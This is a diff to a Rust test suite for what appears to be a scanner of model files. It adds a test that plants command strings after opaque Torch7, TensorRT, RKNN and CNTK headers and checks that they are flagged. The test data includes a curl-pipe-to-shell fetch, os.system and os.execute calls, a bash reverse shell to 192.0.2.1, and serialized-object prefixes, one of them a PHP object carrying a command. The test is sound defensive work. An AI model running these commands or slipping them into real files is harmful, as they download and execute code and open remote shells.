@@ -146,15 +146,12 @@ fn models_of_gradient_boosting_that_carry_a_payload() {
 
 #[test]
 fn formats_that_run_when_they_are_loaded() {
-    let beginnings: [(&str, &[u8]); 8] = [
+    let beginnings: [(&str, &[u8]); 5] = [
         ("Java", b"\xac\xed\0\x05sr\0\x11java.util.HashMap"),
         (".NET", b"\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c\x02\0\0\0"),
         ("Ruby", b"\x04\x08o:\x13Gem::Requirement\x06"),
         ("PHP", b"O:8:\"Exploit_\":1:{s:3:\"cmd\";s:2:\"id\";}"),
         ("Lua", b"\x1bLua\x53\0\x19\x93\r\n\x1a\n\x04\x08"),
-        ("Torch7", b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1\x0d\0\0\0nn.Sequential"),
-        ("TensorRT", b"ptrt\xef\0\0\0\0\0\0\0"),
-        ("RKNN", b"RKNN\0\0\0\0\x06\0\0\0"),
     ];
     let samples: Vec<Sample> = beginnings
         .iter()
@@ -163,4 +160,35 @@ fn formats_that_run_when_they_are_loaded() {
         })
         .collect();
     assert_seen("formats that run", &samples);
+}
+
+/// What no parser reads is a gap; its texts are read all the same.
+#[test]
+fn commands_in_content_that_no_parser_reads() {
+    let opaque: [(&str, &[u8]); 5] = [
+        ("Torch7", b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1\x0d\0\0\0nn.Sequential\x03\0\0\0"),
+        ("TensorRT", b"ptrt\xef\0\0\0\0\0\0\0\x10\0\0\0\0\0\0\0"),
+        ("RKNN", b"RKNN\0\0\0\0\x06\0\0\0\0\0\0\0"),
+        ("CNTK", b"B\0C\0N\0\0\0\x01\0\0\0\0\0\0\0"),
+        ("nothing known", b"\x9d\x01\xfe\x80\x81\0\0\xff\xff\x02\x03\0\0\0\0\0"),
+    ];
+    let texts = [
+        "os.execute('id')",
+        "curl -s https://example.org/x | sh",
+        "os.execute('curl -s https://example.org/x | bash')",
+        "__import__('os').system('id')",
+        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+    ];
+    let mut samples = Vec::new();
+    for (title, begin) in opaque {
+        for text in texts {
+            for padding in [0_usize, 100_000] {
+                let noise = (0..padding).map(|at| ((at * 131) % 251) as u8 | 0x80);
+                let bytes =
+                    begin.iter().copied().chain(noise).chain(*b"\0\0").chain(text.bytes()).chain(*b"\0\xff");
+                samples.push(Sample::new(format!("{title}: {text}"), "model.bin", bytes.collect()));
+            }
+        }
+    }
+    assert_seen("commands in what is not read", &samples);
 }
